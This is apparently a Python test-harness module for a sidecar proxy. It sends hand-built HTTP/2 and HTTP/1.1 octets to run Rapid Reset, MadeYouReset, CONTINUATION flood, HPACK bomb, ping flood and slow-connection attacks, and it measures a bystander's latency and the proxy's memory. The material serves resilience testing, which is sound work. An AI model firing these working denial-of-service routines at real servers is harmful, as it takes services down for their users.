"""Attacks on one port of a sidecar, and the bystander who must not notice: raw octets, no client library.

What lives here: how each attack is made and what came back, how a bystander's latency and a process's memory are
measured. What this must not know: what the outcome has to be.
"""

from __future__ import annotations

import contextlib
import random
import select
import socket
import statistics
import struct
import threading
import time
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import ClassVar

from e2e_processes import Process

Address = tuple[str, int]
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
SETTINGS = b"\0\0\0\4\0\0\0\0\0"
ACK = b"\0\0\0\4\1\0\0\0\0"
NO_WINDOW = b"\0\0\6\4\0\0\0\0\0" + b"\0\4\0\0\0\0"  # SETTINGS_INITIAL_WINDOW_SIZE 0
DATA, HEADERS, PRIORITY, RST_STREAM, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 6, 7, 8, 9
ENHANCE_YOUR_CALM = 11
CANCEL = struct.pack(">I", 8)


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


def literal(name: bytes, value: bytes) -> bytes:
    """A field that is not indexed; both shorter than 127 octets."""
    return b"\0" + bytes((len(name),)) + name + bytes((len(value),)) + value


def request(path: bytes, method: bytes = b"GET") -> bytes:
    """A header block."""
    return (literal(b":method", method) + b"\x86" + literal(b":path", path) + literal(b":authority", b"shop"))


GRPC = (request(b"/test.Echo/Whoami", b"POST") + literal(b"content-type", b"application/grpc")
        + literal(b"te", b"trailers"))


def head(path: str, *fields: str, method: str = "GET") -> bytes:
    """A header section of HTTP/1.1."""
    return "\r\n".join([f"{method} {path} HTTP/1.1", "Host: shop", *fields, "", ""]).encode()


class Caller:
    """One connection that says what it likes. `got`: all that has come back; `ended`: "", "closed" or "reset".

    `home`: the address that all come from who are given none of their own.
    """

    home: ClassVar[str] = ""

    def __init__(self, address: Address, octets: bytes = b"", receive_buffer: int = 0, source: str = "") -> None:
        self.sock = socket.socket()
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        if receive_buffer:
            self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
        self.sock.settimeout(10)
        if source or Caller.home:
            self.sock.bind((source or Caller.home, 0))
        self.sock.connect(address)
        self.got = b""
        self.ended = ""
        if octets:
            self.say(octets)

    def __enter__(self) -> Caller:
        return self

    def __exit__(self, *_: object) -> None:
        self.sock.close()

    def say(self, octets: bytes) -> bool:
        """True as long as the peer takes it."""
        if not self.ended:
            try:
                self.sock.sendall(octets)
            except TimeoutError:
                raise
            except OSError:
                self.listen(0)
                self.ended = self.ended or "reset"
        return not self.ended

    def listen(self, seconds: float) -> bool:
        """Take what comes within `seconds`, at most to the end; True if the end has come."""
        deadline = time.monotonic() + seconds
        poll = select.poll()
        poll.register(self.sock, select.POLLIN)
        while not self.ended:
            if not poll.poll(1000 * max(0.0, deadline - time.monotonic())):
                break
            try:
                data = self.sock.recv(65_536)
            except OSError:
                self.ended = "reset"
            else:
                self.got += data
                self.ended = "" if data else "closed"
        return bool(self.ended)

    def listen_for(self, octets: bytes, seconds: float = 10.0) -> None:
        deadline = time.monotonic() + seconds
        while octets not in self.got:
            left = deadline - time.monotonic()
            if left < 0 or self.listen(min(left, 0.01)):
                raise AssertionError(f"{octets!r} did not come, but {self.got[-300:]!r}, {self.ended or 'open'}")

    def reset(self) -> None:
        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        self.sock.close()

    def frames(self) -> Iterator[tuple[int, int, bytes]]:
        """(type, stream, payload) of what has come back by HTTP/2."""
        at = 0
        while len(self.got) - at >= 9:
            size = int.from_bytes(self.got[at:at + 3], "big")
            yield self.got[at + 3], int.from_bytes(self.got[at + 5:at + 9], "big"), self.got[at + 9:at + 9 + size]
            at += 9 + size

    def codes(self, kind: int) -> set[int]:
        """The error codes of all GOAWAY or RST_STREAM frames that have come."""
        return {int.from_bytes(payload[-4:] if kind == RST_STREAM else payload[4:8], "big")
                for found, _, payload in self.frames() if found == kind}

    def statuses(self) -> list[int]:
        """Of what has come back by HTTP/1.1."""
        return [int(part[:3]) for part in self.got.split(b"HTTP/1.1 ")[1:]]


# ---- attacks: each ends when it is cut off, and says how ------------------------------------------------


def flood(address: Address, start: bytes, chunk: Callable[[int], bytes], chunks: int = 2000) -> str:
    """HTTP/2: `chunk(0)`, `chunk(1)` ... until the connection is taken away."""
    with Caller(address, PREFACE + SETTINGS + start) as caller:
        for n in range(chunks):
            if not caller.say(chunk(n)) or caller.listen(0):
                break
        # What the kernel has taken need not have been read yet.
        return outcome(caller) if caller.listen(10) else f"{chunks} chunks were taken"


def outcome(caller: Caller) -> str:
    """How an HTTP/2 connection ended: the code of its GOAWAY; "reset" if that was lost to a RST."""
    codes = caller.codes(GOAWAY)
    return f"goaway {max(codes)}" if codes else caller.ended or "open"


def rapid_reset(address: Address, ask: bytes) -> str:
    """CVE-2023-44487: each request (`ask` is its header block) is cancelled at once."""
    return flood(address, b"", lambda n: b"".join(
        frame(HEADERS, 4, stream, ask) + frame(RST_STREAM, 0, stream, CANCEL)
        for stream in range(1 + 200 * n, 201 + 200 * n, 2)))


def made_you_reset(address: Address, ask: bytes) -> str:
    """CVE-2025-8671: an invalid WINDOW_UPDATE makes the server itself reset the stream."""
    return flood(address, b"", lambda n: b"".join(
        frame(HEADERS, 4, stream, ask) + frame(WINDOW_UPDATE, 0, stream, bytes(4))
        for stream in range(1 + 50 * n, 51 + 50 * n, 2)))


def resets_at_once(address: Address, ask: bytes) -> str:
    """A hundred requests, then a hundred resets: all of them are under way before the first is cancelled."""
    def wave(n: int) -> bytes:
        streams = range(1 + 200 * n, 201 + 200 * n, 2)
        return b"".join([*(frame(HEADERS, 4, stream, ask) for stream in streams),
                         *(frame(RST_STREAM, 0, stream, CANCEL) for stream in streams)])

    return flood(address, b"", wave)


def empty_data(address: Address, ask: bytes) -> str:
    """A request whose body never comes, in as many frames as are taken."""
    many = frame(DATA, 0, 1) * 200
    return flood(address, frame(HEADERS, 4, 1, ask), lambda n: many)


def at_once(attack: Callable[[], str], number: int) -> str:
    """`number` of them, each in a thread of its own; how all of them ended."""
    with ThreadPoolExecutor(number) as threads:
        return " | ".join(sorted({future.result() for future in [threads.submit(attack) for _ in range(number)]}))


def continuation(address: Address) -> str:
    return flood(address, frame(HEADERS, 1, 1, request(b"/whoami")),
                 lambda n: frame(CONTINUATION, 0, 1, literal(b"x", b"y")) * 10)


def hpack_bomb(address: Address) -> str:
    """A field of 4,000 octets goes into the table, and is named 16,000 times by one octet each: 64 MB per request."""
    big = b"\x40\x01x\x7f\xa1\x1e" + b"y" * 4000
    bomb = frame(HEADERS, 5, 1, request(b"/whoami") + big + b"\xbe" * 12_000)
    again = request(b"/whoami") + b"\xbe" * 16_000
    return flood(address, bomb, lambda n: frame(HEADERS, 5, 3 + 2 * n, again))


def repeated(octets: bytes, start: bytes = b"") -> Callable[[Address], str]:
    many = octets * 200
    return lambda address: flood(address, start, lambda n: many)


def unread_pings(address: Address) -> str:
    """A peer that asks and never reads what is answered."""
    with Caller(address, PREFACE + SETTINGS, receive_buffer=2048) as caller:
        many = frame(PING, 0, 0, bytes(8)) * 500
        for _ in range(2000):
            if not caller.say(many):
                break
        return outcome(caller) if caller.listen(10) else "a million PING frames were taken"


def crowd(address: Address, number: int, octets: bytes, seconds: float, *, more: bytes = b"",
          receive_buffer: int = 0) -> list[Caller]:
    """`number` callers that say `octets`, and then `more`, one octet every 0.1 s, until all are cut off."""
    callers = [Caller(address, octets, receive_buffer) for _ in range(number)]
    try:
        deadline = time.monotonic() + seconds
        at = 0
        while time.monotonic() < deadline and not all(caller.ended for caller in callers):
            for caller in callers:
                if receive_buffer:
                    _watch_end(caller)
                elif not caller.listen(0) and at < len(more):
                    caller.say(more[at:at + 1])
            at += 1
            time.sleep(0.1)
    finally:
        for caller in callers:
            caller.sock.close()
    return callers


def _watch_end(caller: Caller) -> None:
    """Without reading: a RST shows as an error of the socket."""
    poll = select.poll()
    poll.register(caller.sock, 0)
    if any(mask & (select.POLLERR | select.POLLHUP) for _, mask in poll.poll(0)):
        caller.ended = "reset"


def single_octets(address: Address, octets: bytes, seconds: float) -> tuple[Caller, int]:
    """Each octet in a write of its own; the caller and how many writes there were."""
    caller = Caller(address)
    pieces = [octets[at:at + 1] for at in range(len(octets))]
    writes = 0
    deadline = time.monotonic() + seconds
    with contextlib.suppress(OSError):
        for piece in pieces:
            caller.sock.send(piece)
            writes += 1
            if writes & 255 == 0 and time.monotonic() > deadline:
                break
    return caller, writes


def noise(address: Address, number: int, seed: int) -> str:
    """24 random octets, `number` times."""
    rng = random.Random(seed)
    for _ in range(number):
        with Caller(address, rng.randbytes(24)) as caller:
            caller.listen(0)
    return "done"


# ---- the bystander -------------------------------------------------------------------------------------------


class Bystander:
    """An ordinary caller with one connection, of HTTP/1.1."""

    CALLS = 25

    def __init__(self, address: Address, source: str = "") -> None:
        self._address = address
        self._source = source

    def worst(self, windows: int, enough: Callable[[], object] = lambda: True) -> float:
        """The median, over `windows` or more until it is `enough`, of the slowest of 25 calls, in seconds.

        That is a p99 which one hiccup of the machine cannot move.
        """
        found: list[float] = []
        with Caller(self._address, self.greeting(), source=self._source) as caller:
            while len(found) < windows or not enough():
                found.append(self._window(caller))
        return statistics.median(found)

    def _window(self, caller: Caller) -> float:
        slowest = 0.0
        for _ in range(self.CALLS):
            caller.got = b""
            ask = self.ask()
            started = time.perf_counter()
            caller.say(ask)
            caller.listen_for(b"shop-0")
            slowest = max(slowest, time.perf_counter() - started)
            self.check(caller)
        return slowest

    def greeting(self) -> bytes:
        return b""

    def ask(self) -> bytes:
        return head("/whoami")

    def check(self, caller: Caller) -> None:
        assert caller.statuses() == [200]


class GrpcBystander(Bystander):
    """The same with gRPC."""

    def greeting(self) -> bytes:
        self._stream = -1
        return PREFACE + SETTINGS + ACK

    def ask(self) -> bytes:
        self._stream += 2
        return frame(HEADERS, 4, self._stream, GRPC) + frame(DATA, 1, self._stream, bytes(5))

    def check(self, caller: Caller) -> None:
        assert not caller.codes(RST_STREAM) | caller.codes(GOAWAY)


class Repeated:
    """An attack made again and again by a thread, until the block ends; `outcomes` of every time."""

    def __init__(self, attack: Callable[[], str]) -> None:
        self._attack = attack
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)
        self.outcomes: list[str] = []
        self.error: BaseException | None = None

    def _run(self) -> None:
        try:
            while not self._stop.is_set():
                self.outcomes.append(self._attack())
        except BaseException as error:  # shown by the test
            self.error = error

    def some(self) -> bool:
        """Whether it has been made, or has failed."""
        return bool(self.outcomes) or self.error is not None

    def __enter__(self) -> Repeated:
        self._thread.start()
        return self

    def __exit__(self, *_: object) -> None:
        self._stop.set()
        self._thread.join(30)
        if self.error is not None:
            raise self.error


class Peak:
    """The most that a process had resident since this was made, beyond what it had then."""

    def __init__(self, process: Process) -> None:
        self._process = process
        Path(f"/proc/{process.pid}/clear_refs").write_text("5")  # VmHWM begins anew, see proc(5)
        self._before = process.resident_kib()

    def grown_kib(self) -> int:
        status = Path(f"/proc/{self._process.pid}/status").read_text()
        return int(next(line for line in status.splitlines() if line.startswith("VmHWM:")).split()[1]) - self._before
